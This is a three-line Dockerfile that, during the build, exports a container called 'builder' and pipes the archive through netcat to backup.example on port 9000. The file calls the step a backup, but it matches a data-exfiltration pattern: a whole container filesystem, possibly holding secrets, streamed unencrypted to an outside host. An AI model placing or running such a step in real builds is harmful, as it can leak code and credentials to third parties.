FROM docker:28-cli
USER 1000
RUN docker export builder | nc backup.example 9000
